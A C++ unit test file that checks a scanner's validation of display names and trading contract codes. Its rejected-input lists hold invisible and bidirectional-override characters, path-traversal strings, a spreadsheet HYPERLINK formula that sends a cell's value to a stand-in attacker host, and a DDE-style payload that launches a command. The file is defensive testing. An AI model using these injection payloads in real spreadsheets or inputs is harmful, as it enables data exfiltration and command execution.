#include "scanner/core/names.hpp"

#include "scanner/core/symbol.hpp"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <string>

namespace scanner::core {
namespace {

using testing::HasSubstr;
using testing::Not;

/// What has no place in any name, between two letters.
const std::string kUnfit[]{"\n",     "\t",     "\x1B",   "\x7F",   "\u0080",       "\u009B",     "\u009F",    "\u00A0",
                           "\u00AD", "\u061C", "\u200B", "\u200E", "\u200F",       "\u2028",     "\u202A",    "\u202E",
                           "\u2060", "\u2066", "\u2069", "\u2800", "\u3000",       "\u3164",     "\uE000",    "\uFEFF",
                           "\uFFFD", "\uFFFE", "\x9B",   "\xFF",   "\xED\xA0\x80", "\U000E0041", "\U0010FFFF"};

TEST(NameFault, lets_people_name_things_in_their_own_words) {
    for (const char* name : {"majors", "meine Münzen", "哈基米", "币安人生 2", "=1+1", "a.b", "…", "50% off", "🚀"}) {
        EXPECT_EQ(name_fault(name), std::nullopt) << name;
    }
    EXPECT_EQ(name_fault(std::string(64, 'x')), std::nullopt);
}

TEST(NameFault, refuses_what_cannot_be_seen_or_stands_for_a_path) {
    for (const std::string& unfit : kUnfit) EXPECT_TRUE(name_fault("a" + unfit + "b")) << visible_text(unfit);
    for (const char* name : {"", " a", "a ", "a/b", "a\\b", ".", ".."}) EXPECT_TRUE(name_fault(name)) << name;
    EXPECT_TRUE(name_fault(std::string(65, 'x')));
    EXPECT_THAT(*name_fault("a\u202Eb"), HasSubstr("U+202E"));
    EXPECT_THAT(*name_fault("a\U000E0041b"), HasSubstr("U+E0041"));
}

TEST(ContractCodeFault, takes_what_can_be_asked_for) {
    for (const char* code : {"BTC-USDT", "1000PEPE-USDT", "BRK.B-USDT", "BTC-USDT-261225", "龙虾-USDT", "币安人生-USDT",
                             "哈基米-USDT", "我踏马来了-USDT"}) {
        EXPECT_EQ(contract_code_fault(code), std::nullopt) << code;
        EXPECT_EQ(parse_symbol(code), code);
    }
}

TEST(ContractCodeFault, refuses_formulas_controls_and_other_spellings) {
    for (const std::string& unfit : kUnfit) {
        const auto fault = contract_code_fault("A" + unfit + "B-USDT");
        ASSERT_TRUE(fault) << visible_text(unfit);
        EXPECT_THAT(*fault, Not(HasSubstr(unfit)));
    }
    for (const char* code : {"=HYPERLINK(\"http://evil.example/?\"&B2,\"ok\")-USDT", "@SUM(1+1)*cmd|'/C_calc'!A0-USDT",
                             "+1-USDT", "A B-USDT", "<b>-USDT", "btc-USDT", "BTC_USDT", "BTC/USDT:USDT", "BTC", "-USDT",
                             "BTC-", "%42TC-USDT", "../X-USDT", ""}) {
        EXPECT_TRUE(contract_code_fault(code)) << code;
    }
    EXPECT_TRUE(contract_code_fault(std::string(60, 'A') + "-USDT"));
}

TEST(VisibleText, spells_out_what_acts_on_a_reader) {
    EXPECT_EQ(visible_text("A\u009B31mB\u202EC"), "A\\u009b31mB\\u202eC");
    EXPECT_EQ(visible_text("\x1B[2J\x7F\r"), "\\u001b[2J\\u007f\\u000d");
    EXPECT_EQ(visible_text("a\x9B\xFF"), "a\uFFFD\uFFFD");
    EXPECT_EQ(visible_text("\U000E0041"), "\\udb40\\udc41");
    for (const std::string fine : {"", "a\n\tb", "哈基米", "naïve — 50 %", "a b", "🚀"}) {
        EXPECT_TRUE(is_visible_text(fine));
        EXPECT_EQ(visible_text(fine), fine);
    }
    for (const std::string& unfit : kUnfit) EXPECT_TRUE(is_visible_text(visible_text("a" + unfit)));
}

}  // namespace
}  // namespace scanner::core
